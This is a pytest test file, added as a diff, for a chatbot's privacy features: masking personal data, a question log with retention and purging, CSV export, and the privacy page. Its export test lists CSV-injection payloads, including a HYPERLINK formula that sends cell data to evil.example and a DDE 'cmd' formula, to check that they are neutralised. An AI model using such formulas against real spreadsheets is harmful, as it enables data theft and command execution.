@@ -1,0 +1,282 @@
+"""What is kept of a visitor: nothing, unless the owner keeps questions, and then without who asked."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import stat
+import unicodedata
+from collections.abc import Callable
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from fastapi.testclient import TestClient
+from hypothesis import given
+from hypothesis import strategies as st
+from playwright.sync_api import Browser
+
+from browsing import visiting
+from partnerbot.answering.answer import Answer
+from partnerbot.cli import main
+from partnerbot.settings import Settings
+from partnerbot.web.personal_data import EMAIL, NUMBER, masked
+from partnerbot.web.question_log import QuestionLog
+from partnerbot.web.server import create_app
+from partnerbot.web.texts import languages, texts_of
+from scripted_bot import ScriptedBot
+from serving import serving
+
+VITAGORA = "When did Vitagora open its Kumamoto office?"
+NOON = datetime(2026, 3, 10, 12, 5, 42, tzinfo=UTC)
+
+
+def bot_with(folder: Path, **settings: object) -> ScriptedBot:
+    """Return a scripted bot whose settings differ from the tests' own in these."""
+    bot = ScriptedBot(folder)
+    bot.settings = Settings.model_validate(bot.settings.model_dump() | settings)
+    return bot
+
+
+@pytest.fixture
+def answer(tmp_path: Path) -> Answer:
+    return ScriptedBot(tmp_path / "bot").ask(VITAGORA)
+
+
+# ---- Masking -----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("written", "kept"),
+    [
+        ("Écrivez à jean.dupont@mairie-dijon.fr svp", f"Écrivez à {EMAIL} svp"),
+        ("rené@exemple.fr", EMAIL),
+        ("私のメールはtaro.yamada@pref.kumamoto.jpです", f"私のメールは{EMAIL}です"),
+        ("ｔａｒｏ＠ｅｘａｍｐｌｅ．ｊｐ", EMAIL),
+        ("taro (at) example.jp", EMAIL),
+        ("Appelez le 06 12 34 56 78.", f"Appelez le {NUMBER}."),
+        ("Appelez le 06.12.34.56.78", f"Appelez le {NUMBER}"),
+        ("+33 (0)6 12 34 56 78", NUMBER),
+        ("電話は090-1234-5678です", f"電話は{NUMBER}です"),
+        ("電話は０９０−１２３４−５６７８です", f"電話は{NUMBER}です"),
+        ("096ー333ー2159まで", f"{NUMBER}まで"),
+        ("+81 96 333 2159", NUMBER),
+        ("my card is 4111 1111 1111 1111", f"my card is {NUMBER}"),
+        ("2012 2013 2014 2017", NUMBER),  # its check digit is a card's
+        ("passport TR1234567", f"passport {NUMBER}"),
+        ("passeport 12ab34567 perdu", f"passeport {NUMBER} perdu"),
+        ("mon numéro 1 85 05 78 006 084 36", f"mon numéro {NUMBER}"),
+        ("マイナンバー 1234 5678 9012", f"マイナンバー {NUMBER}"),
+        ("FR76 3000 6000 0112 3456 7890 189", f"FR{NUMBER}"),
+    ],
+)
+def test_obvious_personal_data_is_masked(written: str, kept: str) -> None:
+    """E-mail addresses, telephone, card, passport and registry numbers, however they are typed."""
+    assert masked(written) == kept
+
+
+@pytest.mark.parametrize(
+    "question",
+    [
+        "Quand l’accord du 2024-07-01 a-t-il été signé ?",
+        "Combien d’habitants : 1 738 301 ?",
+        "2010-2015 2020 の交流",
+        "Was it 20/10/2023 or 21/10/2023?",
+        "協定は2019年5月5日ですか？",
+        "COVID-19, G20 et COP21 ?",
+        "Vitagora, rue @ quelle adresse ?",
+    ],
+)
+def test_what_a_question_is_about_stays(question: str) -> None:
+    """Dates, years and quantities are no personal data."""
+    assert masked(question) == unicodedata.normalize("NFKC", question)
+
+
+@given(st.text(max_size=60), st.text("0123456789", min_size=9, max_size=19), st.text(max_size=60))
+def test_no_long_run_of_digits_survives(before: str, digits: str, after: str) -> None:
+    """Whatever stands around it; and masking again changes nothing."""
+    if digits[:4].startswith(("19", "20")):
+        digits = "3" + digits
+    text = masked(f"{before}{digits}{after}")
+    assert digits not in text
+    assert masked(text) == text
+
+
+# ---- The log -----------------------------------------------------------------------------------
+
+
+def test_nothing_is_kept_by_default(tmp_path: Path) -> None:
+    """Asking leaves no file behind."""
+    bot = bot_with(tmp_path)
+    with TestClient(create_app(bot), "http://127.0.0.1") as client:
+        assert client.post("/api/ask", json={"question": VITAGORA}).status_code == 200
+    assert not bot.settings.state.exists()
+
+
+def test_a_kept_question_says_nothing_of_who_asked(tmp_path: Path) -> None:
+    """The question masked, what became of it and the minute; no address, no header, no history."""
+    bot = bot_with(tmp_path, keep_questions_days=30)
+    question = f"{VITAGORA} Answer to ken@example.jp"
+    with TestClient(create_app(bot), "http://127.0.0.1", client=("203.0.113.77", 5)) as client:
+        body = {"question": question, "history": [{"role": "user", "content": "secret history"}]}
+        client.post("/api/ask", json=body, headers={"User-Agent": "Identifying/1.0"})
+    (file,) = (bot.settings.state / "questions").iterdir()
+    (line,) = file.read_text("utf-8").splitlines()
+    kept = json.loads(line)
+    assert kept.keys() == {"minute", "language", "status", "question", "sources"}
+    assert kept["question"] == f"{VITAGORA} Answer to {EMAIL}"
+    assert kept["sources"] == ["dijon.fr.md", "articles/熊本 交流.md"]
+    assert len(kept["minute"]) == len("2026-03-10T12:05")
+    for trace in ("203.0.113.77", "Identifying", "secret history"):
+        assert trace not in line
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+
+
+def test_an_entry_is_gone_when_its_days_are_over(tmp_path: Path, answer: Answer) -> None:
+    """Not a day later; younger ones stay."""
+    log = QuestionLog(tmp_path, 3)
+    for age in range(6):
+        log.keep(answer, NOON - timedelta(days=age))
+    assert log.purge(NOON.date()) == 3
+    assert [entry.minute[:10] for entry in log.entries()] == ["2026-03-08", "2026-03-09", "2026-03-10"]
+
+
+def test_no_longer_keeping_deletes_what_was_kept(tmp_path: Path) -> None:
+    """A server that starts with 0 days purges at once, so that its privacy page is true."""
+    kept = bot_with(tmp_path / "a", keep_questions_days=30)
+    state = tmp_path / "state"
+    kept.settings = kept.settings.model_copy(update={"state": state})
+    with TestClient(create_app(kept), "http://127.0.0.1") as client:
+        client.post("/api/ask", json={"question": VITAGORA})
+    assert list((state / "questions").iterdir())
+    with TestClient(create_app(bot_with(tmp_path / "b", state=state)), "http://127.0.0.1") as client:
+        client.get("/health")
+        client.post("/api/ask", json={"question": VITAGORA})
+    assert not list((state / "questions").iterdir())
+
+
+def test_a_full_disk_loses_the_entry_and_not_the_answer(tmp_path: Path) -> None:
+    """What can't be kept is told to the operator only."""
+    bot = bot_with(tmp_path, keep_questions_days=3)
+    bot.settings.state.mkdir()
+    (bot.settings.state / "questions").write_text("no folder")
+    with TestClient(create_app(bot), "http://127.0.0.1") as client:
+        assert client.post("/api/ask", json={"question": VITAGORA}).status_code == 200
+
+
+# ---- Exports -----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def run(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> Callable[..., str]:
+    """Run `partnerbot questions` on tmp_path, with three days; return what it printed."""
+    monkeypatch.setenv("PARTNERBOT_STATE", str(tmp_path))
+    monkeypatch.setenv("PARTNERBOT_KEEP_QUESTIONS_DAYS", "3")
+
+    def command(*arguments: str) -> str:
+        monkeypatch.setattr("sys.argv", ["partnerbot", "questions", *arguments])
+        with pytest.raises(SystemExit) as ended:
+            main()
+        assert not ended.value.code
+        return capsys.readouterr().out
+
+    return command
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "  =1+1",
+        "＝1＋1",
+        "\t=1+1",
+    ],
+)
+def test_a_spreadsheet_calculates_nothing_of_an_export(
+    tmp_path: Path, answer: Answer, run: Callable[..., str], formula: str
+) -> None:
+    """A question that is a formula is text in the table, and whole."""
+    QuestionLog(tmp_path, 3).keep(answer.model_copy(update={"question": formula}), NOON)
+    (row,) = csv.DictReader(io.StringIO(run()))
+    assert row["question"].startswith("'")
+    assert row["question"].removeprefix("'") == masked(formula)
+
+
+def test_export_and_purge(tmp_path: Path, answer: Answer, run: Callable[..., str]) -> None:
+    """A table, or JSON a line; a line cut off by a crash is left out; purging empties what is too old."""
+    log = QuestionLog(tmp_path, 3)
+    log.keep(answer, NOON)
+    (file,) = (tmp_path / "questions").iterdir()
+    with file.open("a") as lines:
+        lines.write('{"minute": "20')
+    assert [row["question"] for row in csv.DictReader(io.StringIO(run()))] == [VITAGORA]
+    assert json.loads(run("--json"))["language"] == "en"
+    assert date.fromisoformat("2026-03-10") < datetime.now(UTC).date()
+    assert run("--purge") == ""
+    assert list(csv.DictReader(io.StringIO(run()))) == []
+
+
+# ---- The page ----------------------------------------------------------------------------------
+
+
+def privacy_page(folder: Path, language: str, **settings: object) -> str:
+    with TestClient(create_app(bot_with(folder, **settings)), "http://127.0.0.1") as client:
+        response = client.get(f"/privacy/{language}")
+        assert response.status_code == 200
+        assert "script-src" not in response.headers["content-security-policy"]
+        assert f'href="/privacy/{language}"' in client.get(f"/{language}").text
+        assert client.get("/privacy/xx").status_code == 404
+        return response.text
+
+
+@pytest.mark.parametrize("language", languages())
+def test_the_privacy_page_says_what_the_settings_do(tmp_path: Path, language: str) -> None:
+    """Kept or not, for how long, where questions are counted, which sites show the chat, whom to ask."""
+    texts = texts_of(language).privacy
+    plain = privacy_page(tmp_path / "a", language)
+    assert texts.not_kept in plain
+    assert texts.address_in_memory in plain
+    assert texts.sites not in plain
+    kept = privacy_page(
+        tmp_path / "b",
+        language,
+        keep_questions_days=17,
+        limits_store="redis://127.0.0.1:1",
+        allowed_origins="https://www.dijon.example",
+        contact="dpo@example.org",
+    )
+    assert texts.not_kept not in kept
+    assert texts.kept.format(days=17) in kept
+    assert texts.address_in_store in kept
+    assert "https://www.dijon.example" in kept
+    assert "mailto:dpo@example.org" in kept
+    assert "{" not in kept
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("language", languages())
+def test_the_browser_keeps_nothing(tmp_path: Path, browser: Browser, language: str) -> None:
+    """No cookie ever, no storage before a question, then at most the tab's conversation; notice first."""
+    with serving(bot_with(tmp_path)) as address, visiting(browser, address) as visitor:
+        page = visitor.open(language)
+        notice = page.locator(".pb-notice")
+        assert notice.is_visible()
+        assert texts_of(language).page.notice in notice.inner_text()
+        stored = (
+            "async () => [localStorage.length, (await indexedDB.databases()).length,"
+            " (await caches.keys()).length,"
+            " (await navigator.serviceWorker.getRegistrations()).length, ...Object.keys(sessionStorage)]"
+        )
+        assert page.evaluate(stored) == [0, 0, 0, 0]
+        visitor.ask(VITAGORA)
+        assert page.context.cookies() == []
+        assert page.evaluate(stored) in ([0, 0, 0, 0], [0, 0, 0, 0, f"partnerbot-{language}"])
+        with page.expect_popup() as opened:
+            notice.get_by_role("link").click()
+        assert opened.value.locator("h1").inner_text() == texts_of(language).privacy.title
